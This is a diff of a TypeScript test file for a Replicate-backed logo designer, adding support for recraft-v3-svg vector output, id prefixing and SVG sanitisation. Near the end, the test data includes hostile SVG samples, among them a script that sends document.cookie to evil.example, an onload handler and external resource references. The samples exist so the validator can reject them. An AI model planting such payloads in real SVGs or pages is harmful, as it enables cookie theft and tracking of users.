@@ -6,12 +6,33 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { LogoDesignError } from "../../domain/generation/logo-designer";
 import { planDirections } from "../../engine";
 import { renderMasterPng } from "../../engine/render";
+import { attribute, parseSvg, serialize, walk } from "../brand-kit/svg-tree";
 import { ReplicateLogoDesignProvider } from "./replicate-provider";
 
 /**
  * The Replicate provider against a local fake of Replicate's HTTP API (models/predictions,
- * prediction polling, cancel, and the output file host), on an ephemeral loopback port.
+ * prediction polling, cancel, and the output file host), on an ephemeral loopback port. Like the
+ * real models, flux answers a list of PNG URLs and recraft-v3-svg one SVG URL.
  */
+
+const FLUX = "black-forest-labs/flux-schnell";
+const RECRAFT = "recraft-ai/recraft-v3-svg";
+/** Colours no palette uses, so finding them in a render proves the symbol's references held. */
+const LEAF_GREEN = [0x00, 0xff, 0x00] as const;
+const SEED_MAGENTA = [0xff, 0x00, 0xff] as const;
+
+/**
+ * A symbol as recraft-v3-svg writes it: a size and no viewBox, a canvas-sized near-white path
+ * first, then the shapes. The leaf is painted through a gradient and the seed drawn through <use>,
+ * so both only show when the references survive the id prefixing.
+ */
+const RECRAFT_SVG = `<?xml version="1.0" encoding="UTF-8"?>
+<svg version="1.1" xmlns="http://www.w3.org/2000/svg" width="1024" height="1024">
+<path d="M0 0 C337.92 0 675.84 0 1024 0 C1024 337.92 1024 675.84 1024 1024 C686.08 1024 348.16 1024 0 1024 C0 686.08 0 337.92 0 0 Z " fill="#FEFEFE" transform="translate(0,0)"/>
+<defs><linearGradient id="leaf"><stop offset="0" stop-color="#00FF00"/><stop offset="1" stop-color="#00FF00"/></linearGradient><circle id="seed" r="120" fill="#FF00FF"/></defs>
+<path d="M512 112 C712 312 712 512 512 712 C312 512 312 312 512 112 Z" fill="url(#leaf)"/>
+<use href="#seed" x="512" y="800"/>
+</svg>`;
 
 type PredictionStatus = "starting" | "processing" | "succeeded" | "failed" | "canceled";
 
@@ -20,8 +41,8 @@ interface FakeBehaviour {
   createStatus: () => number;
   /** Successive statuses returned by GET /predictions/:id (the last one repeats). */
   statuses: PredictionStatus[];
-  /** What the output URL serves. */
-  file: () => { status: number; body: Buffer; type: string };
+  /** What an output URL serves; by default the PNG or SVG its name says. */
+  file: (path: string) => { status: number; body: Buffer; type: string };
 }
 
 interface Recorded {
@@ -36,6 +57,7 @@ let symbolPng: Buffer;
 let behaviour: FakeBehaviour;
 let recorded: Recorded;
 let polls = new Map<string, number>();
+let modelOf = new Map<string, string>();
 
 function json(
   res: ServerResponse,
@@ -55,13 +77,15 @@ async function readBody(req: IncomingMessage): Promise<Record<string, unknown>> 
 }
 
 function prediction(id: string, status: PredictionStatus) {
+  const model = modelOf.get(id) ?? FLUX;
+  const output = model === RECRAFT ? `${baseUrl}/files/${id}.svg` : [`${baseUrl}/files/${id}.png`];
   return {
     id,
     status,
-    model: "black-forest-labs/flux-schnell",
+    model,
     version: "hidden",
     input: {},
-    output: status === "succeeded" ? [`${baseUrl}/files/${id}.png`] : null,
+    output: status === "succeeded" ? output : null,
     error: status === "failed" ? "Prediction failed: NSFW content detected" : null,
     urls: { get: `${baseUrl}/v1/predictions/${id}`, cancel: `${baseUrl}/v1/predictions/${id}/cancel` },
   };
@@ -70,7 +94,8 @@ function prediction(id: string, status: PredictionStatus) {
 async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
   const url = new URL(req.url ?? "/", baseUrl);
   const path = url.pathname;
-  if (req.method === "POST" && /^\/v1\/models\/[^/]+\/[^/]+\/predictions$/.test(path)) {
+  const create = path.match(/^\/v1\/models\/([^/]+\/[^/]+)\/predictions$/);
+  if (req.method === "POST" && create) {
     const body = await readBody(req);
     recorded.creates.push({ path, authorization: req.headers.authorization, body });
     const status = behaviour.createStatus();
@@ -80,6 +105,7 @@ async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> 
     }
     const id = `p${recorded.creates.length}`;
     polls.set(id, 0);
+    modelOf.set(id, create[1] ?? "");
     json(res, status, prediction(id, "starting"));
     return;
   }
@@ -100,7 +126,7 @@ async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> 
     return;
   }
   if (req.method === "GET" && path.startsWith("/files/")) {
-    const file = behaviour.file();
+    const file = behaviour.file(path);
     res.writeHead(file.status, { "content-type": file.type });
     res.end(file.body);
     return;
@@ -109,11 +135,11 @@ async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> 
 }
 
 function provider(
-  overrides: Partial<{ timeoutMs: number; maxAttempts: number }> = {},
+  overrides: Partial<{ timeoutMs: number; maxAttempts: number; model: `${string}/${string}` }> = {},
 ): ReplicateLogoDesignProvider {
   return new ReplicateLogoDesignProvider({
     client: new Replicate({ auth: "test-token", baseUrl: `${baseUrl}/v1`, fetch: globalThis.fetch }),
-    model: "black-forest-labs/flux-schnell",
+    model: overrides.model ?? FLUX,
     fetch: globalThis.fetch,
     timeoutMs: overrides.timeoutMs ?? 5000,
     pollIntervalMs: 20,
@@ -124,9 +150,14 @@ function provider(
 
 const BRIEF = { brandName: "Acme Bakery", description: "Artisan sourdough bakery" };
 
-async function designOnce(p: ReplicateLogoDesignProvider, signal?: AbortSignal) {
-  const [direction] = planDirections(BRIEF, 1, [], 11);
-  if (!direction) throw new Error("no direction planned");
+async function designOnce(
+  p: ReplicateLogoDesignProvider,
+  signal?: AbortSignal,
+  iconStyle?: "solid" | "line",
+) {
+  const [planned] = planDirections(BRIEF, 1, [], 11);
+  if (!planned) throw new Error("no direction planned");
+  const direction = iconStyle ? { ...planned, spec: { ...planned.spec, iconStyle } } : planned;
   return p.designLogo({ brief: BRIEF, direction, variant: 0, seed: 11, ...(signal ? { signal } : {}) });
 }
 
@@ -161,14 +192,18 @@ afterAll(async () => {
 beforeEach(() => {
   recorded = { creates: [], gets: 0, cancels: 0 };
   polls = new Map();
+  modelOf = new Map();
   behaviour = {
     createStatus: () => 201,
     statuses: ["processing", "succeeded"],
-    file: () => ({ status: 200, body: symbolPng, type: "image/png" }),
+    file: (path) =>
+      path.endsWith(".svg")
+        ? { status: 200, body: Buffer.from(RECRAFT_SVG), type: "image/svg+xml" }
+        : { status: 200, body: symbolPng, type: "image/png" },
   };
 });
 
-describe("ReplicateLogoDesignProvider against a fake Replicate API", () => {
+describe("ReplicateLogoDesignProvider with a raster model (flux) against a fake Replicate API", () => {
   it("asks for the symbol only, with a fixed seed, and sets the name itself", async () => {
     const logo = await designOnce(provider());
 
@@ -259,5 +294,163 @@ describe("ReplicateLogoDesignProvider against a fake Replicate API", () => {
 
     behaviour.file = () => ({ status: 200, body: Buffer.from("not an image"), type: "image/png" });
     expect((await expectDesignError(designOnce(provider()))).kind).toBe("invalid_output");
+  });
+});
+
+/** The master's parts by their data-part names, read with the brand kit's own SVG reader. */
+function partsOf(svg: string) {
+  const elements = [...walk(parseSvg(svg))];
+  const part = (name: string) => elements.filter((element) => attribute(element, "data-part") === name);
+  return { elements, symbol: part("symbol"), name: part("name") };
+}
+
+/** Pixels of the 1024 px master within a few levels of a colour. */
+async function pixelsOf(svg: string, [r, g, b]: readonly [number, number, number]): Promise<number> {
+  const { data } = await sharp(await renderMasterPng(svg))
+    .removeAlpha()
+    .raw()
+    .toBuffer({ resolveWithObject: true });
+  let count = 0;
+  for (let i = 0; i < data.length; i += 3) {
+    const near =
+      Math.abs((data[i] ?? 0) - r) + Math.abs((data[i + 1] ?? 0) - g) + Math.abs((data[i + 2] ?? 0) - b);
+    if (near <= 12) count++;
+  }
+  return count;
+}
+
+function svgFile(body: string, type = "image/svg+xml") {
+  return () => ({ status: 200, body: Buffer.from(body), type });
+}
+
+describe("ReplicateLogoDesignProvider with a vector model (recraft-v3-svg) against a fake Replicate API", () => {
+  it("sends recraft's inputs only: the prompt for a flat vector symbol, a square size and a style", async () => {
+    await designOnce(provider({ model: RECRAFT }), undefined, "solid");
+    await designOnce(provider({ model: RECRAFT }), undefined, "line");
+
+    expect(recorded.creates.map((create) => create.path)).toEqual([
+      "/v1/models/recraft-ai/recraft-v3-svg/predictions",
+      "/v1/models/recraft-ai/recraft-v3-svg/predictions",
+    ]);
+    const [solid, line] = recorded.creates.map((create) => create.body.input as Record<string, unknown>);
+    // Exactly these keys: flux's go_fast, seed, megapixels, num_outputs and output_format are not sent.
+    expect(solid).toEqual({ prompt: expect.any(String), size: "1024x1024", style: "any" });
+    expect(line).toEqual({ prompt: expect.any(String), size: "1024x1024", style: "line_art" });
+    const prompt = String(solid?.prompt);
+    expect(prompt).toMatch(/^A flat vector logo symbol: /);
+    expect(prompt).toMatch(/a few bold solid shapes/);
+    expect(prompt).toMatch(/no text, no letters/i);
+    expect(prompt).not.toContain("Acme Bakery");
+    // recraft-v3-svg reads at most 1000 characters of prompt.
+    expect(prompt.length).toBeLessThanOrEqual(1000);
+    expect(String(line?.prompt)).toMatch(/a few clean lines of even stroke weight/);
+  });
+
+  it("draws the model's shapes as the logo's vector symbol, with prefixed ids, beside the outlined name", async () => {
+    const logo = await designOnce(provider({ model: RECRAFT }));
+    const svg = logo.svg ?? "";
+
+    expect(logo.png).toBeNull();
+    expect(svg).not.toContain("data:image/png");
+    expect(svg).not.toContain("<text");
+    const { symbol, name } = partsOf(svg);
+    expect(symbol).toHaveLength(1);
+    const [symbolPart] = symbol;
+    if (!symbolPart) throw new Error("no symbol part");
+    const drawn = serialize(symbolPart);
+    const prefix = /id="(v[0-9a-f]{12}-)leaf"/.exec(drawn)?.[1];
+    expect(prefix).toBeDefined();
+    expect(drawn).toContain(`<circle id="${prefix}seed" r="120" fill="#FF00FF"/>`);
+    expect(drawn).toContain(`fill="url(#${prefix}leaf)"`);
+    expect(drawn).toContain(`href="#${prefix}seed"`);
+    expect(svg).not.toMatch(/id="(leaf|seed)"/);
+    // The name is the engine's outlines: paths, beside the symbol.
+    expect(name.length).toBeGreaterThan(0);
+    expect(name.flatMap((part) => [...walk(part)]).some((element) => element.name === "path")).toBe(true);
+
+    // The gradient and the <use> still resolve once prefixed: both colours are drawn.
+    expect(await pixelsOf(svg, LEAF_GREEN)).toBeGreaterThan(500);
+    expect(await pixelsOf(svg, SEED_MAGENTA)).toBeGreaterThan(500);
+    expect(Buffer.isBuffer(logo.preview)).toBe(false);
+    if (!Buffer.isBuffer(logo.preview)) expect([logo.preview.width, logo.preview.height]).toEqual([512, 512]);
+
+    // Another logo gets other ids, so both can sit in one document.
+    const again = (await designOnce(provider({ model: RECRAFT }))).svg ?? "";
+    const otherPrefix = /id="(v[0-9a-f]{12}-)leaf"/.exec(again)?.[1];
+    expect(otherPrefix).toBeDefined();
+    expect(otherPrefix).not.toBe(prefix);
+  });
+
+  it("drops the white background the model draws first", async () => {
+    const logo = await designOnce(provider({ model: RECRAFT }));
+    const svg = logo.svg ?? "";
+    expect(RECRAFT_SVG).toContain("#FEFEFE");
+    expect(svg).not.toContain("#FEFEFE");
+    expect(svg).not.toContain("337.92");
+    const [symbolPart] = partsOf(svg).symbol;
+    const shapes = symbolPart ? [...walk(symbolPart)].filter((element) => element.name === "path") : [];
+    expect(shapes.map((shape) => attribute(shape, "fill"))).toEqual([expect.stringMatching(/^url\(#v/)]);
+  });
+
+  it("reads an SVG answer by its content when the file host gives no SVG type", async () => {
+    // Whitespace may open the body when no XML declaration follows it.
+    const withoutDeclaration = RECRAFT_SVG.replace(/^<\?xml[^>]*>/, "");
+    behaviour.file = svgFile(`\n  ${withoutDeclaration}`, "application/octet-stream");
+    const logo = await designOnce(provider({ model: RECRAFT }));
+    expect(logo.svg).toMatch(/fill="url\(#v[0-9a-f]{12}-leaf\)"/);
+  });
+
+  it.each([
+    ["a script", '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'],
+    ["an onload handler", '<g onload="alert(1)"><circle r="40" cx="50" cy="50"/></g>'],
+    ["an external image", '<image href="https://evil.example/track.png" width="100" height="100"/>'],
+    ["an external use", '<use href="https://evil.example/sprite.svg#logo"/>'],
+  ])("refuses an SVG with %s as invalid_output, and does not try again", async (_label, content) => {
+    behaviour.file = svgFile(
+      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><circle r="30" cx="50" cy="50" fill="#000"/>${content}</svg>`,
+    );
+    const error = await expectDesignError(designOnce(provider({ model: RECRAFT, maxAttempts: 2 })));
+    expect(error.kind).toBe("invalid_output");
+    expect(recorded.creates).toHaveLength(1);
+  });
+
+  it("keeps the artwork of a link out of the file but not the link", async () => {
+    behaviour.file = svgFile(
+      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><a href="https://evil.example/"><circle r="30" cx="50" cy="50" fill="#FF00FF"/></a></svg>',
+    );
+    const svg = (await designOnce(provider({ model: RECRAFT }))).svg ?? "";
+    expect(svg).not.toContain("evil.example");
+    expect(partsOf(svg).elements.some((element) => element.name === "a")).toBe(false);
+    expect(svg).toContain('<circle r="30" cx="50" cy="50" fill="#FF00FF"/>');
+  });
+
+  it("refuses an answer that is neither SVG nor an image as invalid_output", async () => {
+    behaviour.file = svgFile("<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'></svg>");
+    expect((await expectDesignError(designOnce(provider({ model: RECRAFT })))).kind).toBe("invalid_output");
+
+    behaviour.file = svgFile("not an image", "image/svg+xml");
+    expect((await expectDesignError(designOnce(provider({ model: RECRAFT })))).kind).toBe("invalid_output");
+  });
+
+  it("keeps the failure behaviour of the raster path: rate limits, failed predictions and timeouts", async () => {
+    behaviour.createStatus = () => 429;
+    expect((await expectDesignError(designOnce(provider({ model: RECRAFT, maxAttempts: 2 })))).kind).toBe(
+      "rate_limited",
+    );
+
+    recorded = { creates: [], gets: 0, cancels: 0 };
+    behaviour.createStatus = () => 201;
+    behaviour.statuses = ["processing", "failed"];
+    expect((await expectDesignError(designOnce(provider({ model: RECRAFT, maxAttempts: 2 })))).kind).toBe(
+      "failed",
+    );
+    expect(recorded.creates).toHaveLength(2);
+
+    recorded = { creates: [], gets: 0, cancels: 0 };
+    behaviour.statuses = ["processing"];
+    expect((await expectDesignError(designOnce(provider({ model: RECRAFT, timeoutMs: 300 })))).kind).toBe(
+      "timeout",
+    );
+    expect(recorded.cancels).toBe(1);
   });
 });
